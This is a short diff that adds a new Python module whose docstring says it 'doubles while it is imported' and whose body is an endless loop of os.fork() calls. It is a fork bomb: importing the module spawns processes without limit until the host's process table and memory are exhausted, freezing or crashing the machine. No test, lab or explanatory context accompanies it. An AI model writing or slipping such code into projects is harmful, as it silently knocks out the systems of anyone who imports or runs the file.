@@ -1,0 +1,6 @@
+"""Doubles while it is imported."""
+
+import os
+
+while True:
+    os.fork()
